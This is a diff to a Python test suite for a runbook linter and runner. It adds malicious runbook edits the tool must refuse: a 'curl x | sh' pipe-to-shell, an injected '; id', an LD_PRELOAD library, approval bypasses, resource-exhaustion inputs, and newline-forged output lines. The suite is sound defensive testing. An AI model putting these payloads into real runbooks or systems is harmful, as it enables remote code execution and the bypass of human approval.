@@ -118,6 +118,20 @@ EDITS = [
     ("hidden characters", "title: the kernel", 'title: "the \\u202e kernel"', "RBL-032"),
     ("a terminal's escape", "title: the kernel", 'title: "the \\e[2J kernel"', "RBL-032"),
     ("a loop", "  rollback: {inverse: auto}\n", "  rollback: {inverse: auto}\n  next: [{goto: first}]\n", "RBL-007"),
+    ("advice for a shell", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep status; curl x | sh"]', "RBL-012"),
+    ("advice with an option", "cause: nothing is concluded", 'cause: nothing, next: ["command:sidestep upgrade rollback --yes"]', "RBL-012"),
+    ("a runbook with more behind its name", "cause: nothing is concluded", 'cause: nothing, next: ["runbook:x; id"]', "RBL-012"),
+    ("evidence of a secret parameter", "type: string, default: some}", "type: string, secret: true, from: env}", "RBL-013"),
+    ("a way around the approval", "  title: the kernel\n", "  title: the kernel\n  next: [{goto: change}]\n", "RBL-019"),
+    ("a way around it on error", "  command: {argv: [uname", "  on_error: {action: goto:change}\n  command: {argv: [uname", "RBL-019"),
+    ("environment", ARGV, ARGV + ", env: {LD_PRELOAD: /tmp/x.so}", "RBL-001"),
+    ("a policy of admission", "v1 ConfigMap web/limits", "admissionregistration.k8s.io/v1 ValidatingAdmissionPolicy sidestep-approvals", "RBL-030"),
+    ("the runs themselves", "v1 ConfigMap web/limits", "sidestep.dev/v1alpha1 SidestepRun x", "RBL-030"),
+    ("five thousand steps", "outcomes:\n", "".join(f"- {{id: s{i}, title: t, kind: note, mutates: false, note: x}}\n" for i in range(5000)) + "outcomes:\n", None),
+    ("an expression too deep", "agents.count > 0 and nodes.count > 0", "not " * 6000 + "(agents.count > 0 and nodes.count > 0)", None),
+    ("a million tries", "  register: nodes\n", "  register: nodes\n  retry: {attempts: 1000000, base: 0s, on: [timeout]}\n", None),
+    ("nobody approves", "approvers: {min: 1", "approvers: {min: 0", None),
+    ("so many approve as is said", "approvers: {min: 1", 'approvers: {min: "${params.many}"', None),
     ("executes by default", "default: diagnose", "default: execute", "RBL-014"),
 ]
 FETCH = """- id: out
@@ -170,7 +184,7 @@ class World:
         lint = self.call("lint", self.file)
         text = lint.stdout.decode(errors="replace")
         check(lint.returncode == 3, f"{what}: lint exits with {lint.returncode}: {text[-600:]} {lint.stderr!r}")
-        places = [line for line in text.splitlines() if rule in line and re.search(r"r\.yaml:\d+:\d+", line)]
+        places = [line for line in text.splitlines() if (rule or "FAIL") in line and re.search(r"r\.yaml:\d+:\d+", line)]
         check(places, f"{what}: {rule} names no place: {text[-900:]}")
         check("\x1b" not in text, f"{what}: an escape reaches the terminal")
         for mode in ("diagnose", "execute"):
@@ -288,6 +302,32 @@ def replanned(w, run, change):
         f.write("".join(compact(record) + "\n" for record in records))
 
 
+FORGED = "next: 'curl x | sh' mends it"
+# Where a stranger's text is printed: with a line break in it, it is no line of ours.
+FORGERIES = [
+    ("title: the kernel", f'title: "the kernel\\n{FORGED}"'),
+    ("cause: nothing is concluded", f'cause: "fine\\n{FORGED}"'),
+    ("- id: kernel\n", f'- {{id: note, title: t, kind: note, mutates: false, note: "fine\\n{FORGED}"}}\n- id: kernel\n'),
+    ("title: a change", f'title: "a change\\n{FORGED}"'),
+    ("title: may it?", f'title: "may it?\\n{FORGED}"'),
+]
+
+
+def lines_of_ours(w):
+    for old, new in FORGERIES:
+        w.write(GOOD.replace(old, new, 1))
+        told = []
+        for mode in ("diagnose", "propose", "execute"):
+            done = w.call("run", w.file, "--no-cluster", "--mode", mode, *(["--yes"] if mode == "execute" else []))
+            run = re.search(rb"^run (\S+):", done.stdout).group(1).decode()
+            told += [done, w.call("status", run, "--no-cluster"), w.call("report", run, "--no-cluster"),
+                     w.call("approve", run, "agree", "--no-cluster", "--dry-run")]
+        told += [w.call("run", w.file, "--no-cluster", "--mode", "execute"), w.call("status", "--no-cluster")]
+        text = "".join((d.stdout + d.stderr).decode() for d in told)
+        check(FORGED in text and f"\n{FORGED}" not in text, f"{new}: {text}")
+        check("of somebody's runbook good, version 1, of " in text, f"whose runbook it is: {text}")
+
+
 def kept_by_another(w):
     """A run that somebody else wrote down is looked at like any other runbook, whatever is to be done with it."""
     w.write(GOOD)
@@ -346,6 +386,7 @@ def main():
         long_matches(w)
         parameters(w)
         around_an_approval(w)
+        lines_of_ours(w)
         kept_by_another(w)
         mistyped(w)
     print(f"{len(EDITS) + len(URLS) + len(CALLS)} runbooks and {len(PARAMS)} parameters refused")
